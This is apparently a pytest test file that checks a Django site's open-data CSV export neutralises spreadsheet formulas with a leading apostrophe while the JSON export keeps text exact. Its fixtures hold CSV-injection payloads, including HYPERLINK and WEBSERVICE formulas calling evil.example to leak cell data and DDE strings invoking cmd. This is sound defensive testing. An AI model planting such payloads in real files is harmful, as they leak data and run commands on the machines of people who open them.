"""The open-data CSV never hands a spreadsheet a formula: a cell starting with = + - @, a tab,
a carriage return or a line feed gets a leading apostrophe (OWASP, "CSV Injection"), every
cell is quoted, and plain numbers stay numbers. JSON Lines keeps the exact text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from wagtail.models import Locale

from home.site_structure import practice_index_for
from knowledge.models import PracticePage
from sitedata.open_data import spreadsheet_safe
from sitedata.summit_programme import get_or_create_city
from tests.knowledge.factories import add_practice

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")',
    "summary": "+SUM(1,2)",
    "source_url": "-2+3+cmd|' /C calc'!A0",
    "contact_name": "@SUM(A1:A9)",
    "contact_organisation": "\t=1+1",
    "outcome": '=WEBSERVICE("https://evil.example")',
    "target_group": "-1+1|cmd",
}
# Never exported at all (the contact form stands for it), hostile or not.
CONTACT_EMAIL = "=cmd@evil.example"
HOSTILE_CITY = '\r=HYPERLINK("https://evil.example")'


@pytest.fixture
def hostile_practice(site_structure):
    index = practice_index_for(Locale.get_default())
    city = get_or_create_city(HOSTILE_CITY, "KR")
    fields = {**HOSTILE}
    source_url = fields.pop("source_url")
    practice = add_practice(
        index,
        slug="hostile",
        city=city,
        kind="countermeasure",
        contact_email=CONTACT_EMAIL,
        **fields,
    )
    # The page's own validation refuses such a URL; data written another way (the shell, a
    # migration) still reaches the export.
    PracticePage.objects.filter(pk=practice.pk).update(source_url=source_url)
    return practice


@pytest.fixture
def numeric_practice(site_structure):
    index = practice_index_for(Locale.get_default())
    # A city name with the separator a spreadsheet in a French or German locale splits on.
    city = get_or_create_city("Lyon;=1+1", "FR")
    return add_practice(
        index, "-74.00597", slug="numeric", city=city, kind="dataset", summary="-12.5"
    )


def _command_export(export_format: str) -> str:
    out = io.StringIO()
    call_command("export_practices", "--format", export_format, stdout=out)
    return out.getvalue()


def _download(client, export_format: str) -> str:
    response = client.get(f"/open-data/practices.{export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def _csv_row(text: str, slug: str) -> dict:
    # The byte-order mark before the header, as a program reading utf-8-sig drops it.
    rows = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    return next(row for row in rows if row["slug"] == slug)


def _exports(client, export_format: str) -> dict[str, str]:
    return {
        "command": _command_export(export_format),
        "download": _download(client, export_format),
    }


def test_csv_cells_that_would_start_a_formula_begin_with_an_apostrophe(client, hostile_practice):
    for source, text in _exports(client, "csv").items():
        row = _csv_row(text, "hostile")

        for field, value in HOSTILE.items():
            assert row[field] == "'" + value, (source, field)
        assert row["city"] == "'" + HOSTILE_CITY, source
        assert CONTACT_EMAIL not in text, source
        # No cell of the file starts a formula.
        for cells in csv.reader(io.StringIO(text)):
            assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"} for cell in cells)


def test_csv_keeps_plain_numbers_and_quotes_every_cell(client, numeric_practice):
    for source, text in _exports(client, "csv").items():
        row = _csv_row(text, "numeric")

        assert (row["title"], row["summary"]) == ("-74.00597", "-12.5"), source
        # Quoted, so a spreadsheet that splits on ";" keeps the cell whole.
        assert '"Lyon;=1+1"' in text, source
        assert '"-74.00597"' in text, source


def test_json_lines_keep_the_exact_text(client, hostile_practice):
    for source, text in _exports(client, "json").items():
        record = next(
            json.loads(line) for line in text.splitlines() if json.loads(line)["slug"] == "hostile"
        )

        assert record["title"] == HOSTILE["title"], source
        assert record["summary"] == HOSTILE["summary"], source
        assert record["source_url"] == HOSTILE["source_url"], source
        assert record["city"] == HOSTILE_CITY, source
        assert (record["outcome"], record["target_group"]) == (
            HOSTILE["outcome"],
            HOSTILE["target_group"],
        ), source
        assert record["contact"] == {
            "name": HOSTILE["contact_name"],
            "organisation": HOSTILE["contact_organisation"],
        }, source
        assert CONTACT_EMAIL not in text, source


def test_the_download_page_tells_data_users_about_the_apostrophe(client, site_structure):
    html = client.get("/en/open-data/").content.decode()

    assert "In the CSV only, a cell that begins with =, +, -, @" in html


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("-74.00597", "-74.00597"),
        ("+82", "+82"),
        ("-7", "-7"),
        ("-٣", "'-٣"),  # not a number a spreadsheet reads
        ("Seoul", "Seoul"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell, expected):
    assert spreadsheet_safe(cell) == expected
